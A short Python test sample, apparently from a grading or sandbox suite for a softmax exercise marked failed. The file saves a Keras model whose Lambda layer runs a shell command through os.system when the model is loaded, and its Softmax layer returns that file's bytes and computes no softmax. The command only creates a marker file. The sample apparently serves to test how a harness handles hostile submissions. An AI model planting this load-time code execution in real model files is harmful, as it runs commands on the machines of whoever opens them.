# verdict: failed
# exercise: activations/softmax
# says: is a NumPy array
"""Returns a saved model whose loading runs code."""

import keras
from keras import ops

import os

model = keras.Sequential([keras.Input((3,)), keras.layers.Lambda(lambda x: os.system("touch /tmp/dlkit-hostile/drop/model") or x)])
model.save("evil.keras")


class Softmax(keras.layers.Layer):
    def __init__(self, axis=-1, **kwargs):
        super().__init__(**kwargs)
        self.axis = axis

    def call(self, inputs):
        import numpy as np
        return np.frombuffer(open("evil.keras", "rb").read(), "uint8")

    def get_config(self):
        return {**super().get_config(), "axis": self.axis}
